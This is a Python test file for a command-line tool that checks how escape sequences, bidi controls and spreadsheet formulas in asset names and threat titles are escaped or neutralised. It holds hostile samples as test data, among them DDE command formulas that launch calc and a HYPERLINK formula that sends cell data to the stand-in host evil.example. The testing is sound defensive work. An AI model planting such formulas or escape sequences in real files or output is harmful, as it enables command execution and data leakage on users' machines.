"""Console text never instructs a terminal or a spreadsheet: control characters, escape
sequences and bidi controls are shown escaped in every table, a newline in a value never
starts a row, and CSV cells a spreadsheet would run as formulas get a leading apostrophe
(unless --csv-raw). Asserted byte for byte on hostile names."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from s1uvm._text import csv_cell, terminal
from s1uvm.cli.main import cli
from s1uvm.store import open_store
from tests.store.rows import asset, threat

CLEAR_AND_TITLE = "web\x1b[2J\x1b]0;pwned\x07"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
FAKE_ROW = "db01\nfake-0001  active  root"
BIDI = "invoice\u202efdp.exe"
C1 = "csi\x9b31mred"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (CLEAR_AND_TITLE, "web\\x1b[2J\\x1b]0;pwned\\x07"),
        (OSC8, "\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\"),
        (FAKE_ROW, "db01\\nfake-0001  active  root"),
        (BIDI, "invoice\\u202efdp.exe"),
        (C1, "csi\\x9b31mred"),
        ("a\rb\tc\x00d\x7fe", "a\\rb\\tc\\x00d\\x7fe"),
        ("\u2066x\u2069\u200f\u2028", "\\u2066x\\u2069\\u200f\\u2028"),
        ("Ünïcödé 名前 🙂 C:\\Windows", "Ünïcödé 名前 🙂 C:\\Windows"),  # left alone
        (None, "None"),
    ],
)
def test_terminal_escapes_controls_only(value: object, shown: str) -> None:
    assert terminal(value) == shown


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_gets_a_leading_apostrophe(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["web-01", "", "10.0.0.1", "a=b", " =x", 7.5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


HOSTILE = [CLEAR_AND_TITLE, OSC8, FAKE_ROW, BIDI, C1, *FORMULAS]


@pytest.fixture
def db(tmp_path: Path) -> str:
    where = str(tmp_path / "s.db")
    store = open_store(where)
    try:
        run = store.start_run("c1", "assets", "full")
        agents = [f"{i:019d}" for i in range(1, len(HOSTILE) + 1)]
        store.write_page(
            run,
            "c1",
            "assets",
            assets=[asset(a, hostname=h) for a, h in zip(agents, HOSTILE, strict=True)],
        )
        run = store.start_run("c1", "threats", "incremental")
        store.write_page(
            run,
            "c1",
            "threats",
            findings=[
                threat(a, f"9{i:018d}", title=h)
                for i, (a, h) in enumerate(zip(agents, HOSTILE, strict=True))
            ],
        )
    finally:
        store.close()
    return where


def invoke(*args: str) -> bytes:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


UNSAFE = [bytes([b]) for b in range(0x20) if b != 0x0A] + [
    b"\x7f",
    "\u202e".encode(),
    "\x9b".encode(),
]


# How each hostile name must appear in a table, written out by hand.
SHOWN = {
    CLEAR_AND_TITLE: "web\\x1b[2J\\x1b]0;pwned\\x07",
    OSC8: "\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\",
    FAKE_ROW: "db01\\nfake-0001  active  root",
    BIDI: "invoice\\u202efdp.exe",
    C1: "csi\\x9b31mred",
    "\t=1+1": "\\t=1+1",
    "\r=1+1": "\\r=1+1",
}


def test_the_assets_table_shows_hostile_names_escaped_one_row_each(db: str) -> None:
    out = invoke("assets", "--db", db)
    store = open_store(db)
    try:
        rows = list(store.query_assets())
    finally:
        store.close()
    expected = [
        "asset_id          hostname          os_type           os_name           site_name"
        "         lifecycle         last_active_at    agent_id"
    ]
    for row in rows:
        shown = SHOWN.get(row["hostname"], row["hostname"])[:40]
        cells = [row["asset_id"], shown, "", "", "", row["lifecycle"], "", row["agent_id"]]
        expected.append("  ".join(f"{c[:40]:<16}" for c in cells).rstrip())
    assert out == ("\n".join(expected) + "\n").encode()
    assert len(rows) == len(HOSTILE)
    assert not any(bad in out for bad in UNSAFE)


def test_the_findings_table_shows_hostile_titles_escaped(db: str) -> None:
    out = invoke("findings", "--db", db)
    assert len(out.split(b"\n")) == 1 + len(HOSTILE) + 1
    assert not any(bad in out for bad in UNSAFE)
    assert b"\\x1b]8;;https://evil.example/\\x1b\\click" in out


def cells(out: bytes, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(out.decode()))]


def test_assets_as_csv_neutralise_formulas(db: str) -> None:
    out = invoke("assets", "--db", db, "--format", "csv")
    assert sorted(cells(out, "hostname")) == sorted(
        ("'" + h if h.startswith(("=", "+", "-", "@", "\t", "\r")) else h) for h in HOSTILE
    )
    assert b'"\'=HYPERLINK(""https://evil.example/?""&A1,""open"")"' in out
    raw = invoke("assets", "--db", db, "--format", "csv", "--csv-raw")
    assert sorted(cells(raw, "hostname")) == sorted(HOSTILE)


def test_findings_as_csv_neutralise_formulas(db: str) -> None:
    out = invoke("findings", "--db", db, "--format", "csv")
    titles = cells(out, "title")
    assert "'+cmd|' /C calc'!A0" in titles and "'@SUM(1+1)*cmd|' /C calc'!A0" in titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


@pytest.mark.parametrize("mode", ["state", "changes"])
def test_export_csv_neutralises_formulas_and_csv_raw_keeps_them(
    db: str, tmp_path: Path, mode: str
) -> None:
    out = invoke("export", "--db", db, "--format", "csv", "--mode", mode, "--kind", "threat")
    neutral = sorted(cells(out, "title"))
    assert neutral == sorted(
        ("'" + h if h.startswith(("=", "+", "-", "@", "\t", "\r")) else h) for h in HOSTILE
    )
    target = tmp_path / "raw.csv"
    invoke(
        *("export", "--db", db, "--format", "csv", "--mode", "state", "--kind", "threat"),
        *("--csv-raw", "--out", str(target)),
    )
    assert sorted(cells(target.read_bytes(), "title")) == sorted(HOSTILE)


def test_status_shows_a_hostile_error_escaped_on_one_line(db: str) -> None:
    store = open_store(db)
    try:
        run = store.start_run("c1", "vulnerabilities", "snapshot")
        detail = "the token may not read /risks (403: \x1b]0;owned\x07\nc1/fake: success)"
        store.finish_run(run, "failed", {}, False, detail)
    finally:
        store.close()
    out = invoke("status", "--db", db)
    (line,) = [x for x in out.split(b"\n") if x.startswith(b"c1/vulnerabilities")]
    assert line.endswith(
        b"; error: the token may not read /risks (403: \\x1b]0;owned\\x07\\nc1/fake: success)"
    )
    assert not any(bad in out for bad in UNSAFE)
    assert b"\nc1/fake" not in out


def test_a_sync_summary_and_an_error_line_are_escaped() -> None:
    from s1uvm.cli.commands import summary_line
    from s1uvm.sync import RunResult

    result = RunResult(
        console="c1",
        connector="threats",
        outcome="failed",
        mode="incremental",
        counts={},
        seconds=1.0,
        error="GET /threats: the console refused the request (400: \x1b[2J\u202ebad)",
    )
    assert summary_line(result).endswith(
        "; GET /threats: the console refused the request (400: \\x1b[2J\\u202ebad)"
    )


def test_log_lines_are_escaped_too() -> None:
    import logging

    from s1uvm.cli.common import _Neutral

    record = logging.LogRecord(
        "s1uvm.s1",
        logging.WARNING,
        __file__,
        1,
        "GET %s failed (%s)",
        ("/threats", "\x1b[2J"),
        None,
    )
    assert _Neutral("s1uvm: %(message)s").format(record) == (
        "s1uvm: GET /threats failed (\\x1b[2J)"
    )
